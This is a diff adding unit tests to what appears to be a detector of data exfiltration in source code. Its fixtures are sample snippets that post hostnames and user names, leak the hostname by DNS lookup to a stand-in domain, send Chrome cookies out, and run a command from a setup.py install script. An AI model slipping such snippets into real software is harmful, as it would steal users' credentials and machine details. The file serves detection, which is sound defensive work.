@@ -123,6 +123,26 @@ test('keys and files of the user that leave are told from keys that sign', () =>
   assert.deepEqual(kinds('requests.post(u, files={"f": open(path, "rb")})\n'), []);
 });
 
+test('facts of a machine leave in other languages and by other ways too', () => {
+  const go =
+    'host, _ := os.Hostname()\nwho, _ := user.Current()\nhttp.PostForm(u, url.Values{"a": {host, who.Name}})\n';
+  const ruby = "host = Socket.gethostname\nHTTParty.post(u, body: { h: host, u: ENV['USER'] })\n";
+  const lookup = "require('dns').lookup(os.hostname() + '.c.example.net', () => {});\n";
+  const cookies = 'jar = browser_cookie3.chrome()\nrequests.post(u, json=str(jar))\n';
+
+  assert.deepEqual(kinds(go, 'go', 'a.go'), ['system-facts-sent']);
+  assert.deepEqual(kinds(ruby, 'ruby', 'a.rb'), ['system-facts-sent']);
+  assert.deepEqual(kinds(lookup, 'javascript', 'a.js'), ['system-facts-sent']);
+  assert.deepEqual(kinds(cookies), ['secret-file-sent']);
+});
+
+test('a script that installs a package is one by any name', () => {
+  const call = 'os.system("whoami")\n';
+
+  assert.deepEqual(kinds(`from setuptools import setup\n${call}setup(name="x")\n`), ['install-command']);
+  assert.deepEqual(kinds(call), []);
+});
+
 test('an address that a function of the file decodes is kept in disguise', () => {
   const text = 'def plain(x):\n    return bytes.fromhex(x).decode()\n\nrequests.post(plain(PLACE), data=d)\n';
 
